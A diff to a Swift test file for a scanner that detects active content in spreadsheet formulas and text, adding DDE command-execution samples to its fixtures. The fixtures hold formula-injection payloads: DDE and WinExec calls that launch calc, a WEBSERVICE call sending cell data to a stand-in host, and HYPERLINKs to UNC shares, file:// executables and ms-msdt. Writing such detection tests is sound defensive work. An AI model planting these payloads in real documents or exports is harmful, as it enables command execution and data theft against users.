@@ -8,7 +8,7 @@ struct FormulaTests {
         "_xlfn.IMAGE(\"https://tracker.example/p.png\")", "webservice(\"http://x.example/?\"&A1)", "RTD(\"x.y\",,\"z\")", "CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)",
         "REGISTER.ID(\"a\",\"b\")", "DDE(\"cmd\";\"/c calc\";\"x\")", "HYPERLINK(\"\\\\host\\share\\doc.lnk\",\"open\")", "HYPERLINK(\"file:///C:/x.exe\")",
         "HYPERLINK(\"ms-msdt:/id PCWDiagnostic\")", "HYPERLINK(A1,\"x\")", "'\\\\host\\share\\[x.xlsx]Sheet1'!A1", "[book.xlsx]Sheet1!A1", "[1]Sheet1!A1",
-        "SUM('C:\\data\\[a.xlsx]S'!A1:A3)", "'https://h.example/[x.xlsx]S'!A1",
+        "SUM('C:\\data\\[a.xlsx]S'!A1:A3)", "cmd|' /C calc'", "Excel|Book1!R1C1", "'https://h.example/[x.xlsx]S'!A1",
     ])
     func activeFormulasAreFound(_ formula: String) {
         #expect(OOXMLParts.formulaProblem(formula) != nil, "\(formula)")
@@ -40,5 +40,6 @@ struct FormulaTests {
             #expect(TextActiveContent.findings(in: Array(text.utf8)).isEmpty, "\(text) -> \(TextActiveContent.findings(in: Array(text.utf8)))")
         }
         #expect(!TextActiveContent.findings(in: Array("- cmd|' /C calc'!A0\n".utf8)).isEmpty)
+        #expect(!TextActiveContent.findings(in: Array("@x | 'calc'\n".utf8)).isEmpty)
     }
 }
